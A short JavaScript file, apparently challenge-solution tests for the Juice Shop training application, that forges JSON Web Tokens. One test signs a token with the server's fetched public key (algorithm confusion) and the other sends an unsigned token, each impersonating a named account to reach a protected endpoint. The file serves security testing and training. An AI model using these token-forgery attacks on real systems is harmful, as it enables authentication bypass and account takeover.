import { forgeSigned, forgeUnsigned } from '../attacker/forge-token.js'
import { logsIn } from '../features/accounts.js'
import { proof } from '../proof.js'

export const jwtForgedChallenge = proof({
  async attack(me) {
    const { text } = await me.get('/encryptionkeys/jwt.pub')
    await me.get('/rest/languages', { token: forgeSigned({ data: { email: 'rsa_lord@juice-sh.op' } }, text) })
  },
  honest: logsIn,
})

export const jwtUnsignedChallenge = proof({
  attack: (me) => me.get('/rest/languages', { token: forgeUnsigned({ data: { email: 'jwtn3d@juice-sh.op' } }) }),
  honest: logsIn,
})
